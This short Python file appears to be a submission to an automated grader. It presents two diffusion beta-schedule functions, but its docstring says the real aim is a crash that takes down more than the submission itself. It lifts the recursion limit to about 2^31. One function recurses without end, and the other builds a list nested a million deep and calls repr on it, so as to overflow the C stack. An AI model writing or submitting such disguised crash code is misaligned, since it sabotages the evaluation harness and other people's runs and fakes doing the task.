"""Overflow the C stack: no recursion limit, then a repr of a list that nests a million times.

Success: the crash takes more than this submission with it.
"""

import sys

sys.setrecursionlimit(2**31 - 1)


def linear_betas(num_steps, start=1e-4, end=0.02):
    return linear_betas(num_steps, start, end)


def cosine_betas(num_steps, offset=0.008, max_beta=0.999):
    nested = []
    for _ in range(1_000_000):
        nested = [nested]
    return repr(nested)
